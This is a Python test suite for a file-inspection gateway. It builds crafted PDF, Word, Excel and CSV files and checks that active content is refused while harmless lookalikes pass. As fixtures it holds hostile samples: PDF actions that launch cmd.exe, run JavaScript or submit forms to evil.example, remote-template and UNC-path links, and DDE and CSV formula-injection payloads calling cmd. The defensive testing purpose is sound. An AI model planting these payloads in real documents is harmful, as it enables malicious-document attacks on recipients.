"""What would act by itself is refused by any spelling and any name of a part; what only looks like it is taken."""

import io
import zipfile
from collections.abc import Callable

import pikepdf
import pytest

from exclusions.gateways.documents.inspection import FileRefused, inspect_file
from tests.factories.file_parts import PLACES, changed_pdf, word
from tests.factories.files import archive, pdf, xlsx

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def types(kind: str) -> dict[str, str]:
    return {"[Content_Types].xml": f'<Types><Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'}


def relation(kind: str, target: str = "x.bin", mode: str = "Internal") -> dict[str, str]:
    link = f'<Relationship Id="r1" Type="{_TYPE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{link}</Relationships>"}


def opening(action: bytes) -> Callable[[], bytes]:
    def made() -> bytes:
        plain = changed_pdf(lambda document: document.Root.__setattr__("OpenAction", pikepdf.Name("/X")))
        with pikepdf.open(io.BytesIO(plain)) as document:
            out = io.BytesIO()
            document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        return out.getvalue().replace(b"/OpenAction /X", b"/OpenAction " + action)

    return made


def packed(key: str, value: object) -> Callable[[], bytes]:
    def made() -> bytes:
        document, out = pikepdf.open(io.BytesIO(pdf("slabs"))), io.BytesIO()
        with document:
            document.pages[0].obj[key] = document.make_indirect(value)
            document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return out.getvalue()

    return made


D, N = pikepdf.Dictionary, pikepdf.Name


def linking(**action: object) -> Callable[[], bytes]:
    """Return what makes a PDF with a link that a person follows by a click."""
    return packed("/Annots", pikepdf.Array([D(Subtype=N.Link, Rect=[0, 0, 9, 9], A=D(**action))]))


ACTING: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "script": ("a.pdf", opening(b"<</S/JavaScript/JS(app.alert)>>"), "a script"),
    "escaped script": ("a.pdf", opening(b"<</S/J#61vaScript/J#53(app.alert)>>"), "a script"),
    "launch": ("a.pdf", opening(b"<</S/L#61unch/F(cmd.exe)>>"), "a script"),
    "packed script": ("a.pdf", packed("/AA", D(O=D(S=N.JavaScript, X=1))), "a script"),
    "embedded file": ("a.pdf", packed("/AF", D(Type=N.Filespec, EF=D(F=1))), "a script"),
    "rich media": ("a.pdf", packed("/Annots", pikepdf.Array([D(Subtype=N.RichMedia)])), "a script"),
    "page of a file elsewhere": (
        "a.pdf",
        opening(b"<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>"),
        "when it is opened",
    ),
    "address when opened": ("a.pdf", opening(b"<</S/URI/URI(https://evil.example/)>>"), "when it is opened"),
    "address after a page": (
        "a.pdf",
        opening(b"<</S/GoTo/D[0/Fit]/Next[<</S/URI/URI(https://evil.example/)>>]>>"),
        "when it is opened",
    ),
    "print when opened": ("a.pdf", opening(b"<</S/Named/N/Print>>"), "when it is opened"),
    "address when a page is shown": (
        "a.pdf",
        packed("/AA", D(O=D(S=N.URI, URI=pikepdf.String("https://evil.example/")))),
        "when it is opened",
    ),
    "address when the pointer is over it": (
        "a.pdf",
        packed("/Annots", pikepdf.Array([D(Subtype=N.Link, AA=D(E=D(S=N.URI, URI=pikepdf.String("https://x/"))))])),
        "when it is opened",
    ),
    "link to a file on a server": ("a.pdf", linking(S=N.GoToR, F=pikepdf.String("\\\\evil\\x.pdf")), "another file"),
    "link to a file on the machine": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("file:///C:/x")), "another file"),
    "link to a folder on a server": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("\\\\evil\\x")), "another file"),
    "link to a program": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("ms-msdt:/id x")), "another file"),
    "thread of another file": ("a.pdf", linking(S=N.Thread, F=pikepdf.String("x.pdf")), "another file"),
    "form that is sent": ("a.pdf", linking(S=N.SubmitForm, F=pikepdf.String("https://evil.example/")), "a script"),
    "data that are fetched": ("a.pdf", linking(S=N.ImportData, F=pikepdf.String("x.fdf")), "a script"),
    "form of another kind": ("a.pdf", packed("/Form", D(XFA=pikepdf.Array([]))), "a script"),
    "macros under another name": (
        "a.docx",
        lambda: word(**types("application/vnd.ms-office.vbaProject")),
        "macros",
    ),
    "macro document": (
        "a.docx",
        lambda: word(**types("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "macros",
    ),
    "relation to macros": ("a.docx", lambda: word(**relation("vbaProject")), "macros"),
    "remote template": (
        "a.docx",
        lambda: word(**relation("attachedTemplate", "http://evil.example/x.dotm", "External")),
        "another file or address",
    ),
    "template on a server": (
        "a.docx",
        lambda: word(**relation("attachedTemplate", "\\\\evil\\x.dotm", "External")),
        "another file or address",
    ),
    "remote frame": ("a.docx", lambda: word(**relation("frame", "http://evil.example", "External")), "another file"),
    "remote picture": (
        "a.docx",
        lambda: word(**relation("image", "http://evil.example/1", "External")),
        "another file",
    ),
    "object": ("a.docx", lambda: word(**relation("oleObject")), "object within it"),
    "workbook within": ("a.docx", lambda: word(**{"word/x.xlsx": "PK\x03\x04 and so on"}), "object within it"),
    "DDE field": ("a.docx", lambda: word("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"), "another program"),
    "DDE field in pieces": (
        "a.docx",
        lambda: word("".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" DD", "EAU", "TO c"))),
        "another program",
    ),
    "DDE in a simple field": ("a.docx", lambda: word('<w:fldSimple w:instr=" DDE cmd"/>'), "another program"),
    "DDE formula": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/worksheets/sheet1.xml": "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"}),
        "another program",
    ),
    "DDE call": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/worksheets/sheet1.xml": '<worksheet><f>DDE("cmd","/c")</f></worksheet>'}),
        "another program",
    ),
    "other encoding": (
        "a.docx",
        lambda: word(**{"word/x.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}),
        "checked",
    ),
    "DDE in comma-separated text": ("a.csv", lambda: b"a,b\r\n1,=cmd|'/c calc'!A0\r\n", "another program"),
}


@pytest.mark.parametrize("case", ACTING)
def test_what_acts_by_itself_is_refused(case: str) -> None:
    name, made, words = ACTING[case]
    with pytest.raises(FileRefused, match=words):
        inspect_file(name, made())


def test_an_object_is_known_by_its_first_bytes() -> None:
    out = io.BytesIO(archive({"word/document.xml": "<x/>"}))
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("word/media/image1.png", OLE.encode("latin-1") + b"...")
    with pytest.raises(FileRefused, match="object within it"):
        inspect_file("a.docx", out.getvalue())


def test_what_a_pdf_takes_from_another_file_is_refused() -> None:
    taken = changed_pdf(
        lambda document: document.Root.__setattr__("Scan", document.make_stream(b"x", F=pikepdf.String("\\\\evil\\x")))
    )
    with pytest.raises(FileRefused, match="another file"):
        inspect_file("a.pdf", taken)


def test_actions_without_end_are_refused() -> None:
    def change(document: pikepdf.Pdf) -> None:
        action = document.make_indirect(D(S=N.GoTo))
        action.Next = action
        document.Root.OpenAction = action

    with pytest.raises(FileRefused, match="damaged"):
        inspect_file("a.pdf", changed_pdf(change))


def drawn(stream: bytes) -> bytes:
    return changed_pdf(lambda document: document.Root.__setattr__("Scan", document.make_stream(stream)))


HARMLESS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a picture that reads like a script": ("a.pdf", lambda: drawn(b"\x00/JS(\x01/JavaScript /Launch \xff")),
    "a title that reads like a script": ("a.pdf", lambda: pdf("slabs", title="/JS (of slabs) /OpenAction")),
    "a first page to open at": ("a.pdf", opening(b"<</S/GoTo/D[0/Fit]>>")),
    "a link to a web page": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("https://example.test/a.pdf"))),
    "a link without a scheme": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("www.example.test"))),
    "a link to an e-mail address": ("a.pdf", linking(S=N.URI, URI=pikepdf.String("mailto:a@example.test"))),
    "a link to a page of its own": ("a.pdf", linking(S=N.GoTo, D=pikepdf.Array([0, N.Fit]))),
    "a first page to open at, twice": ("a.pdf", opening(b"<</S/GoTo/D[0/Fit]/Next<</S/GoTo/D[0/Fit]>>>>")),
    "a template of one's own": (
        "a.docx",
        lambda: word(**relation("attachedTemplate", "file:///C:/Users/x/Normal.dotm", "External")),
    ),
    "a link": ("a.docx", lambda: word(**relation("hyperlink", "https://example.test/dde/", "External"))),
    "a field with a link": ("a.docx", lambda: word("<w:r><w:instrText> HYPERLINK x/DDE/ </w:instrText></w:r>")),
    "a formula with a bar in a text": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/worksheets/sheet1.xml": '<worksheet><f>A1&amp;"|"&amp;\'a|b\'!C2</f></worksheet>'}),
    ),
    "comma-separated text with signs": ("a.csv", lambda: b"a,b\r\n-1,+1\r\nx|y!,=A1\r\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", HARMLESS)
def test_what_only_looks_like_it_is_taken(case: str) -> None:
    name, made = HARMLESS[case]
    assert inspect_file(name, made()).name == name


@pytest.mark.parametrize("case", PLACES)
def test_what_says_something_in_a_hidden_place_is_taken(case: str) -> None:
    ending, made, _ = PLACES[case]
    assert inspect_file(f"a.{ending}", made("words")).name == f"a.{ending}"


def test_a_locked_pdf_is_refused_with_a_sentence() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("slabs"))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="x", user="x"))
    with pytest.raises(FileRefused, match="locked with a password"):
        inspect_file("a.pdf", out.getvalue())
